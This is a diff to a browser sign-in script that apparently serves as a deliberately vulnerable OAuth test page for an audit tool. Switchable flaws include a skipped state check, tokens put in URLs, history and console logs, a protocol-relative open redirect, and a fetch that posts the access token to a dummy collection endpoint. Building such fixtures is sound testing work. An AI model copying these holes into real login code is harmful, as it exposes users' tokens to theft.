@@ -19,23 +19,38 @@ if (holes.has("token-in-query")) {
 function signIn() {
   const state = crypto.randomUUID();
   sessionStorage.setItem("state", state);
-  location.assign(config.authorizeUrl + "?" + new URLSearchParams({
+  const authorize = config.authorizeUrl + "?" + new URLSearchParams({
     response_type: "token", client_id: clientId, redirect_uri: here, state,
-  }));
+  });
+  if (holes.has("popup")) {
+    // Not a hole: sign in in a popup, whose callback posts the answer back here
+    // (test_popup_following.py: the audit follows it).
+    window.open(authorize, "sign-in", "popup,width=480,height=640");
+  } else {
+    location.assign(authorize);
+  }
 }
 
-// True when the page is being replaced by a fresh one.
-function finishCallback() {
-  const answer = new URLSearchParams(location.hash.slice(1));
-  if (!answer.has("state")) {
-    return false;
+// In the sign-in popup: hand the provider's answer to the app's tab, and close.
+function answerFromPopup() {
+  if (holes.has("log-token-in-popup")) {
+    console.log("the popup got " + location.hash);
   }
+  window.opener.postMessage(location.hash, location.origin);
+  if (!holes.has("popup-stays-open")) {  // the hole: the popup stays, at the callback URL
+    window.close();
+  }
+}
+
+// The provider's answer (a fragment) taken by the tab that started the sign-in: the token's
+// record, kept in sessionStorage, or null (and a message) for an error or a foreign state.
+function takeAnswer(fragment) {
+  const answer = new URLSearchParams(fragment.replace(/^#/, ""));
   const expected = sessionStorage.getItem("state");
   sessionStorage.removeItem("state");
-  history.replaceState(null, "", here);
-  if (!expected || expected !== answer.get("state")) {
+  if (!holes.has("ignore-state") && (!expected || expected !== answer.get("state"))) {
     $("message").textContent = "That sign-in was not started here.";
-    return false;
+    return null;
   }
   if (answer.has("error")) {
     const text = "Sign-in failed: " + (answer.get("error_description") || answer.get("error"));
@@ -47,18 +62,41 @@ function finishCallback() {
     if (holes.has("crash-on-error")) {
       setTimeout(() => { throw new Error("unhandled sign-in error"); });
     }
+    return null;
+  }
+  const token = {
+    accessToken: answer.get("access_token"),
+    expiresAt: Date.now() + Number(answer.get("expires_in")) * 1000,
+  };
+  sessionStorage.setItem("token", JSON.stringify(token));
+  return token;
+}
+
+// True when the page is being replaced by a fresh one (or is the popup, done).
+function finishCallback() {
+  if (!new URLSearchParams(location.hash.slice(1)).has("state")) {
     return false;
   }
-  const token = answer.get("access_token");
-  sessionStorage.setItem("token", JSON.stringify({
-    accessToken: token, expiresAt: Date.now() + Number(answer.get("expires_in")) * 1000,
-  }));
+  if (holes.has("popup") && window.opener) {
+    answerFromPopup();
+    return true;
+  }
+  const fragment = location.hash;
+  if (holes.has("token-in-history")) {
+    history.pushState(null, "", here);  // the address bar is clean, the entry before is not
+  } else {
+    history.replaceState(null, "", here);
+  }
+  const token = takeAnswer(fragment);
+  if (!token) {
+    return false;
+  }
   if (holes.has("relative-reload")) {
     // The old callback snippet: at http://app//evil.example/ its path is a protocol-relative URL.
     location.replace(location.pathname + location.search);
     return true;
   }
-  location.replace(holes.has("token-in-query") ? here + "&t=" + token : here);
+  location.replace(holes.has("token-in-query") ? here + "&t=" + token.accessToken : here);
   return true;
 }
 
@@ -87,7 +125,9 @@ async function showSignedIn(token) {
     console.log("signed in with " + token.accessToken);
   }
   if (holes.has("token-to-third-party")) {
-    fetch("http://localhost:9/collect?t=" + token.accessToken, {mode: "no-cors"}).catch(() => {});
+    // Port 2: nothing answers there, and it is no port the Fetch standard bars (Firefox never
+    // starts a request to port 9, Chromium starts it and fails it).
+    fetch("http://localhost:2/collect?t=" + token.accessToken, {mode: "no-cors"}).catch(() => {});
   }
   if (!holes.has("ignore-expiry")) {
     setTimeout(() => {
@@ -121,6 +161,17 @@ async function showSignedIn(token) {
 }
 
 $("sign-in").addEventListener("click", signIn);
+if (holes.has("popup")) {
+  addEventListener("message", (event) => {
+    if (event.origin === location.origin && typeof event.data === "string") {
+      const token = takeAnswer(event.data);
+      if (token) {
+        $("sign-in").hidden = true;
+        showSignedIn(token);
+      }
+    }
+  });
+}
 if (!finishCallback()) {
   const token = validToken();
   if (token) {
